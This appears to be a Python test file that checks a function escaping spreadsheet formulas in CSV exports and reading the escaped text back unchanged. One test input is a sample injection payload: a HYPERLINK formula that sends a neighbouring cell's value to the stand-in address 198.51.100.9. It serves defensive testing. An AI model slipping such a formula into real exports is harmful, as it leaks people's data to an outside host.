"""The one escape of spreadsheet formulas in the CSVs written for people, and its inverse."""

from __future__ import annotations

from pathlib import Path

import polars as pl

from visit_planner.csv_cells import formula_safe, formula_text_back

TEXTS = [
    '=HYPERLINK("http://198.51.100.9/?d="&A2,"点击")', "+86", "-独居", "@SUM(A1)", "\tW1",
    "'=already marked", "''-twice", "'plain quote", "H0000001", "锦屏镇", "", None, "a=b",
]  # fmt: skip


def test_a_formula_is_marked_and_read_back_to_the_same_text(tmp_path: Path) -> None:
    frame = pl.DataFrame({"text": TEXTS, "n": list(range(len(TEXTS)))})
    safe = formula_safe(frame)
    shown = dict(zip(TEXTS, safe["text"], strict=True))
    assert shown['=HYPERLINK("http://198.51.100.9/?d="&A2,"点击")'].startswith("'=")
    assert (
        shown["-独居"] == "'-独居" and shown["+86"] == "'+86" and shown["@SUM(A1)"] == "'@SUM(A1)"
    )
    assert shown["'=already marked"] == "''=already marked"  # one more, so reading is exact
    assert shown["'plain quote"] == "'plain quote" and shown["H0000001"] == "H0000001"
    assert shown["a=b"] == "a=b" and shown[""] == "" and safe["n"].to_list() == frame["n"].to_list()
    # No cell a spreadsheet would run as a formula (a marked one opens with ').
    assert not safe["text"].drop_nulls().str.contains(r"^[=+\-@\t\r]").any()
    path = tmp_path / "t.csv"
    safe.write_csv(path, include_bom=True)
    back = formula_text_back(pl.read_csv(path, infer_schema=False), ("text",))
    assert back["text"].to_list() == TEXTS
